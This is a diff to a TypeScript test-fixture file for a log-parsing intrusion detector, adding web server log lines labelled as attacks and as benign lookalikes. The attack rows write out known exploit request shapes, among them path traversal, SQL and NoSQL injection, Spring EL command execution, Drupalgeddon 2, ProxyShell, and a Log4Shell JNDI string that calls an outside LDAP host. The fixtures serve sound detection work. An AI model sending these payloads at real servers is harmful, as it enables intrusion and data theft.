@@ -260,6 +260,102 @@ export const webAccessMatch: MatchRow[] = [
     rule: 'web-scanner',
     fields: { ip: C, detail: 'binary request line' },
   },
+  {
+    line: access('GET /.env HTTP/1.1', 404, UA, `::ffff:${C}`),
+    from: `${from}; a dual-stack socket's IPv4-mapped client, counted as the IPv4 address it is`,
+    rule: 'web-probe',
+    fields: { ip: C, detail: 'dotfile' },
+  },
+  // what internet-wide scanners and botnets send (audited 2026-12-04 against request shapes of known exploits)
+  attack(
+    'GET /wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php HTTP/1.1',
+    'web-traversal',
+    'wp-config',
+    404,
+    UA,
+    "a plugin's file download climbing to WordPress's config",
+  ),
+  attack('GET /index.php?file=/etc/hosts HTTP/1.1', 'web-traversal', 'system file', 200, UA, 'a whole value'),
+  attack(
+    'GET /+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../ HTTP/1.1',
+    'web-traversal',
+    '../',
+    404,
+    UA,
+    "Cisco ASA's: a value that is only a climb",
+  ),
+  attack('GET /?url=http://100.100.100.200/latest/meta-data/ HTTP/1.1', 'web-traversal', 'cloud metadata', 200),
+  attack(
+    'GET /mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@test.com HTTP/1.1',
+    'web-traversal',
+    'exchange ssrf',
+    404,
+    UA,
+    'ProxyShell',
+  ),
+  attack(
+    'GET /item.php?id=1%20RLIKE%20(SELECT%20(CASE%20WHEN%20(4346%3D4346)%20THEN%201%20ELSE%200x28%20END)) HTTP/1.1',
+    'web-injection',
+    'sql: blind probe',
+    200,
+    UA,
+    "sqlmap's boolean probe",
+  ),
+  attack(
+    'GET /api/login?username[$ne]=admin&password[$ne]=x HTTP/1.1',
+    'web-injection',
+    'nosql / prototype pollution',
+    200,
+  ),
+  attack(
+    'GET /?name=%24%7BT(java.lang.Runtime).getRuntime().exec(%27id%27)%7D HTTP/1.1',
+    'web-injection',
+    'java expression',
+    200,
+    UA,
+    'Spring EL',
+  ),
+  attack(
+    'POST /user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax HTTP/1.1',
+    'web-injection',
+    'drupal render array',
+    404,
+    UA,
+    'Drupalgeddon 2',
+  ),
+  attack('GET /index.php?-s HTTP/1.1', 'web-injection', 'php-cgi / pearcmd', 404, UA, "php-cgi's source disclosure"),
+  attack(
+    'GET /struts2-showcase/%24%7B%28111%2B111%29%7D/actionChain1.action HTTP/1.1',
+    'web-injection',
+    'template injection',
+    404,
+  ),
+  attack('GET /cgi-bin/admin.cgi?Command=sysCommand&Cmd=id HTTP/1.1', 'web-injection', 'command', 404),
+  attack('GET / HTTP/1.1', 'web-injection', 'injection in a header', 200, "Mozilla/5.0' AND SLEEP(5) AND '1'='1"),
+  attack(
+    'GET / HTTP/1.1',
+    'web-injection',
+    'log4shell',
+    200,
+    '${${::-j}nd${upper:\\xC4\\xB1}:ldap://198.51.100.7/a}',
+    'Java upper-cases the dotless ı (logged by nginx as its bytes) to the I of jndi',
+  ),
+  attack('POST /ctrlt/DeviceUpgrade_1 HTTP/1.1', 'web-probe', 'router exploit', 404, UA, 'Huawei HG532'),
+  attack('GET /System/deviceInfo?auth=YWRtaW46MTEK HTTP/1.1', 'web-probe', 'router exploit', 404, UA, 'Hikvision'),
+  attack('GET /remote/info HTTP/1.1', 'web-probe', 'exchange/vpn', 404, UA, 'FortiGate'),
+  attack('GET /pages/doenterpagevariables.action HTTP/1.1', 'web-probe', 'application exploit', 404, UA, 'Confluence'),
+  attack('GET /v1.24/containers/json HTTP/1.1', 'web-probe', 'infrastructure api', 404, UA, "Docker's API"),
+  attack('GET /.gitlab-ci.yml HTTP/1.1', 'web-probe', 'dotfile', 404),
+  attack('GET /server.key HTTP/1.1', 'web-probe', 'private key', 404),
+  attack('GET /storage/logs/laravel.log HTTP/1.1', 'web-probe', 'secrets', 404),
+  attack('GET /xleet.php HTTP/1.1', 'web-probe', 'webshell', 404),
+  attack('GET /radio.php HTTP/1.1', 'web-probe', 'webshell', 404, UA, 'a common name, missing'),
+  attack('GET /wp-config%20copy.php HTTP/1.1', 'web-probe', 'config backup', 404),
+  attack('GET /?XDEBUG_SESSION_START=phpstorm HTTP/1.1', 'web-probe', 'application exploit', 200, UA, 'Xdebug'),
+  attack('GET / HTTP/1.1', 'web-scanner', 'user agent hello, world', 200, 'Hello, World'),
+  attack('GET / HTTP/1.1', 'web-scanner', 'user agent libredtail', 200, 'libredtail-http'),
+  attack('SSH-2.0-Go', 'web-scanner', 'another protocol', 400, '-', 'an SSH client at port 80'),
+  attack('POST /index.php?route=account/login HTTP/1.1', 'web-login', 'POST /index.php', 200, UA, "OpenCart's form"),
 ];
 
 export const webAccessNoMatch: NoMatchRow[] = [
@@ -339,6 +435,57 @@ export const webAccessNoMatch: NoMatchRow[] = [
     line: `${C} - - [23/Nov/2026:10:15:01 +0000] "-" 408 - "-" "-"`,
     from: 'mod_log_config.c: an idle connection timing out ("-" 408)',
   },
+  // ordinary traffic that looked like attacks (audited 2026-12-04)
+  {
+    line: access(
+      'GET /issues/?jql=project%20%3D%20ABC%20AND%20status%20%3D%20%22In%20Progress%22%20AND%20assignee%20%3D%20currentUser() HTTP/1.1',
+      200,
+    ),
+    from: `${from}; a Jira query: a quoted value, then AND a field`,
+  },
+  {
+    line: access('GET /embed/chart?options=%7B%22color%22%3A%22%23ff6384%22%7D HTTP/1.1', 200),
+    from: `${from}; a colour in JSON`,
+  },
+  {
+    line: access('GET /.well-known/autoconfig/mail/config-v1.1.xml?emailaddress=jane%40example.com HTTP/1.1', 404),
+    from: `${from}; Thunderbird's autoconfig`,
+  },
+  { line: access('GET /mailing-list/ HTTP/1.1', 404), from },
+  {
+    line: access('GET /api/v1/admin/users?page=2 HTTP/1.1', 403),
+    from: `${from}; an API's own admin, session expired`,
+  },
+  {
+    line: access('POST /administrator/index.php?option=com_ajax&group=system&format=raw HTTP/1.1', 200),
+    from: `${from}; Joomla's admin at work, not its login`,
+  },
+  { line: access('POST /upload.php HTTP/1.1', 413), from: `${from}; an upload too large` },
+  {
+    line: access('GET /wp-json/wp/v2/users/me?_locale=user HTTP/1.1', 403),
+    from: `${from}; the editor's nonce expired`,
+  },
+  {
+    line: access(
+      'POST /xmlrpc.php?for=jetpack&token=abc%3A1%3A2&signature=Zm9v HTTP/1.1',
+      200,
+      'Jetpack by WordPress.com',
+    ),
+    from: `${from}; Jetpack's signed calls`,
+  },
+  { line: access('GET /wp-includes/js/wp-emoji-release.min.js?ver=6.4.2 HTTP/1.1', 404), from },
+  {
+    line: access('GET /issues/new?title=Bug&body=Steps%3A%0D%0A1.+Open+app%0D%0A2.+Crash HTTP/1.1', 200),
+    from: `${from}; newlines typed into a form`,
+  },
+  { line: access('GET /sharer?u=https%3A%2F%2Fwww.example.com%2F%3F&t=Hello HTTP/1.1', 200), from },
+  { line: access('GET /api/v1/stats?states=NY%7CNC%7CSC HTTP/1.1', 200), from: `${from}; a list, not netcat` },
+  { line: access('GET /api/v1/search?q=tom;cat+food HTTP/1.1', 200), from },
+  { line: access('GET /docs/install/windows HTTP/1.1', 404), from },
+  { line: access('GET /config.js HTTP/1.1', 404), from },
+  { line: access('GET /tags/shell HTTP/1.1', 404), from },
+  { line: access('GET /id_ed25519.pub HTTP/1.1', 200, 'curl/8.5.0'), from: `${from}; a published public key` },
+  { line: access('GET /search?q=how+to+edit+/etc/hosts HTTP/1.1', 200), from },
 ];
 
 const APACHE_24 = '[Mon Nov 23 10:15:01.123456 2026]';
@@ -431,6 +578,18 @@ export const webErrorMatch: MatchRow[] = [
     fields: { ip: C },
   },
   {
+    line: `${NGINX} [error] 812#812: *7 access forbidden by rule, client: ${C}, server: _, request: "GET /.git/config HTTP/1.1", host: "example.com"`,
+    from: 'ngx_http_access_module.c: "access forbidden by rule", a deny rule refusing a probed path',
+    rule: 'nginx-probe',
+    fields: { ip: C, detail: 'access forbidden' },
+  },
+  {
+    line: `${APACHE_24} [core:error] [pid 1] [client ${C}:1] AH10244: invalid URI path (/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd)`,
+    from: 'server/request.c: "AH10244: invalid URI path (%s)" (2.4.49+ refusing a climb above the root)',
+    rule: 'apache-traversal',
+    fields: { ip: C, detail: 'invalid URI path' },
+  },
+  {
     line: `${APACHE_24} [core:info] [pid 1] [client ${C}:1] AH00128: File does not exist: /var/www/html/.env`,
     from: 'httpd core: "AH00128: File does not exist: %s", a probed path',
     rule: 'apache-probe',
@@ -463,6 +622,10 @@ export const webErrorMatch: MatchRow[] = [
 ];
 
 export const webErrorNoMatch: NoMatchRow[] = [
+  {
+    line: `${NGINX} [error] 812#812: *7 access forbidden by rule, client: 10.0.0.5, server: _, request: "GET /private/report.pdf HTTP/1.1", host: "example.com"`,
+    from: 'ngx_http_access_module.c: a deny rule refusing an ordinary path',
+  },
   {
     line: `${NGINX} [error] 812#812: *7 open() "/usr/share/nginx/html/favicon.ico" failed (2: No such file or directory), client: 10.0.0.5, server: example.com, request: "GET /favicon.ico HTTP/1.1"`,
     from: 'ngx_http_static_module.c: a missing favicon',
